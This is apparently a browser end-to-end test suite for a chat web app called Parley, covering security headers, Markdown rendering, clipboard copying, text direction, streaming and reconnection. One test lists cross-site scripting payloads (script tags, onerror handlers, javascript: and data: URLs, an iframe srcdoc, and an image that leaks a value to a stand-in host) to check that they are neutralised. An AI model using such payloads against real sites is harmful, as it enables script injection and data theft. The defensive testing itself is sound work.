import { gzipSync } from 'node:zlib';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { Client } from '../end-to-end/client.ts';
import { eventually } from '../eventually.ts';
import { ChatPage, type StoreKind, startWorld, type World } from './world.ts';

describe.each<StoreKind>(['memory', 'redis'])('with sessions in %s', (store) => {
  let world: World;
  let chat: ChatPage;

  beforeAll(async () => {
    world = await startWorld(store);
  });
  afterAll(() => world.stop());
  beforeEach(async () => {
    chat = await ChatPage.open(world, { permissions: ['clipboard-read', 'clipboard-write'] });
    await chat.isIdle();
  });
  afterEach(async () => {
    expect(chat.complaints).toEqual([]);
    await chat.close();
  });

  async function says(answer: string): Promise<void> {
    world.upstream.enqueue({ deltas: [answer] });
    await chat.ask('Say it');
  }

  const answer = () => chat.messages.last().locator('.parley-markdown');
  const clipboard = () => chat.page.evaluate(() => navigator.clipboard.readText());

  test('the page is small, loads nothing else, and runs nothing but its own script', async () => {
    const response = await fetch(world.url, { headers: { 'accept-encoding': 'identity' } });
    const html = await response.text();
    expect(gzipSync(html, { level: 9 }).length).toBeLessThan(180 * 1024);
    expect(response.headers.get('vary')).toBe('Accept-Encoding, Accept-Language');
    const policy = response.headers.get('content-security-policy') ?? '';
    for (const directive of ["default-src 'none'", "base-uri 'none'", "frame-ancestors 'none'", "connect-src 'self'"]) {
      expect(policy.split('; ')).toContain(directive);
    }
    expect(policy).not.toContain('unsafe');

    const requested: string[] = [];
    chat.page.on('request', (request) => requested.push(new URL(request.url()).origin));
    await chat.page.reload();
    await chat.isIdle();
    expect(new Set(requested)).toEqual(new Set([new URL(world.url).origin]));

    const refused = await chat.page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective));
          const script = document.createElement('script');
          script.append('document.title = "taken over"');
          document.body.append(script);
        }),
    );
    expect(refused).toMatch(/^script-src/);
    expect(await chat.page.title()).toBe('Parley');
    chat.complaints.length = 0;
  });

  test('the page comes compressed where the browser takes that', async () => {
    const response = await fetch(world.url, { headers: { 'accept-encoding': 'gzip' } });
    expect(response.headers.get('content-encoding')).toBe('gzip');
    expect(await response.text()).toContain('<title>Parley</title>');
  });

  test('Markdown is shown as what it means: tables, lists, code', async () => {
    await says(
      '# Title\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n- one\n- two\n\nAT&amp;T and `a < b`\n\n```js\nif (a < b) {\n}\n```',
    );
    expect(await answer().getByRole('heading', { level: 3 }).innerText()).toBe('Title');
    expect(await answer().getByRole('cell').allInnerTexts()).toEqual(['1', '2']);
    expect(await answer().getByRole('listitem').allInnerTexts()).toEqual(['one', 'two']);
    expect(await answer().getByText('AT&T and a < b').count()).toBe(1);
    expect(await answer().locator('pre').innerText()).toBe('if (a < b) {\n}\n');
  });

  test('code and messages are copied as they were written', async () => {
    await says('Run\n\n```sh\nnpm ci && npm start\n```\n\nand **wait**.');
    await chat.button('Copy code').click();
    await chat.page.getByRole('status').filter({ hasText: 'Copied' }).waitFor();
    expect(await clipboard()).toBe('npm ci && npm start');
    await chat.messages.last().getByRole('button', { name: 'Copy', exact: true }).click();
    await eventually(async () => (await clipboard()) === 'Run\n\n```sh\nnpm ci && npm start\n```\n\nand **wait**.');
  });

  test('what a model or a user writes never becomes a part of the page, and loads nothing', async () => {
    const hostile = [
      '<img src=x onerror="document.title=1">',
      '<script>document.title=2</script>',
      '[link](javascript:document.title=3)',
      '[link](data:text/html,<script>document.title=4</script>)',
      '![picture](https://elsewhere.example/?leak=secret)',
      '<iframe srcdoc="<script>parent.document.title=5</script>"></iframe>',
      '<a href="javascript:document.title=6">raw</a>',
      '<style>body { display: none }</style>',
    ].join('\n\n');
    const requested: string[] = [];
    chat.page.on('request', (request) => requested.push(request.url()));
    world.upstream.enqueue({ deltas: [hostile] });
    await chat.ask(hostile);
    const texts = chat.messages.locator('.parley-answer, .parley-verbatim');
    expect(await texts.locator('img, script, iframe, style, object, embed').count()).toBe(0);
    const links = await answer()
      .locator('a')
      .evaluateAll((all) => all.map((a) => a.getAttribute('href')));
    expect(links.filter((href) => href !== '' && !href?.startsWith('https://'))).toEqual([]);
    expect(await chat.messages.first().locator('.parley-verbatim').textContent()).toBe(hostile);
    for (const link of await answer().locator('a[href=""]').all())
      await link.evaluate((a: HTMLAnchorElement) => a.target);
    expect(requested.filter((url) => !url.startsWith(new URL(world.url).origin))).toEqual([]);
    expect(await chat.page.title()).toBe('Parley');
    expect(await chat.input.isVisible()).toBe(true);
  });

  test('links open elsewhere, and tell that place nothing of the page', async () => {
    await says('See [the docs](https://example.com/docs).');
    const link = answer().getByRole('link', { name: 'the docs' });
    expect(await link.getAttribute('target')).toBe('_blank');
    expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
  });

  test('each paragraph runs in the direction of its script', async () => {
    await says('שלום עולם\n\nHello world\n\n- מרחבא');
    const directions = answer()
      .locator('p, li')
      .evaluateAll((all) => all.map((element) => getComputedStyle(element).direction));
    expect(await directions).toEqual(['rtl', 'ltr', 'rtl']);
    await chat.ask('שלום');
    const mine = chat.messages.nth(2).locator('.parley-verbatim');
    expect(await mine.evaluate((element) => getComputedStyle(element).direction)).toBe('rtl');
  });

  test('an answer that grows keeps what is shown: no element of it is replaced', async () => {
    const gate = world.upstream.gate();
    world.upstream.enqueue({
      deltas: ['First paragraph.\n\n```js\ncode\n```\n\nSecond', gate, ' paragraph.\n\nThird.'],
    });
    await chat.send('Grow');
    await answer().getByText('Second').waitFor();
    await answer()
      .locator('p, pre')
      .evaluateAll((all) => {
        for (const element of all) Object.assign(element, { seen: true });
      });
    gate.open();
    await answer().getByText('Third.').waitFor();
    await chat.isIdle();
    const seen = answer()
      .locator('p, pre')
      .evaluateAll((all) => all.map((element) => 'seen' in element));
    expect(await seen).toEqual([true, true, true, false]);
  });

  test('the page follows the answer, unless the user reads further up', async () => {
    const list = chat.page.getByRole('region', { name: 'Messages' });
    const fromEnd = () =>
      list.evaluate(({ scrollHeight, scrollTop, clientHeight }) => scrollHeight - scrollTop - clientHeight);
    const gate = world.upstream.gate();
    const paragraphs = Array.from({ length: 40 }, (_, place) => `Paragraph ${place}.\n\n`);
    world.upstream.enqueue({ deltas: [...paragraphs, gate, 'One more.\n\n'.repeat(20), 'The end.'] });
    await chat.send('Long');
    await answer().getByText('Paragraph 39.').waitFor();
    await eventually(async () => (await fromEnd()) < 2);
    await list.evaluate((element) => element.scrollTo({ top: 100 }));
    await chat.button('Jump to latest').waitFor();
    gate.open();
    await chat.isIdle();
    expect(await list.evaluate(({ scrollTop }) => scrollTop)).toBe(100);
    await chat.button('Jump to latest').click();
    await eventually(async () => (await fromEnd()) < 2);
  });

  test('where the service cannot be reached any more, that is said, and nothing that was written is lost', async () => {
    await chat.page.clock.install();
    await world.network.refuse();
    await chat.send('Precious words');
    await chat.page.getByText('Reconnecting').waitFor();
    await eventually(async () => {
      await chat.page.clock.fastForward(10_000);
      return (await chat.alert.count()) === 1;
    });
    expect(await chat.alert.innerText()).toBe('The service cannot be reached.');
    await world.network.listen();
    await chat.button('Try again').click();
    await eventually(async () => (await chat.texts()).at(-1) === 'You said: Precious words');
    await chat.isIdle();
    expect(await new Client(world.host.url).history(chat.sessionId)).toHaveLength(2);
    chat.complaints.length = 0;
  });
});
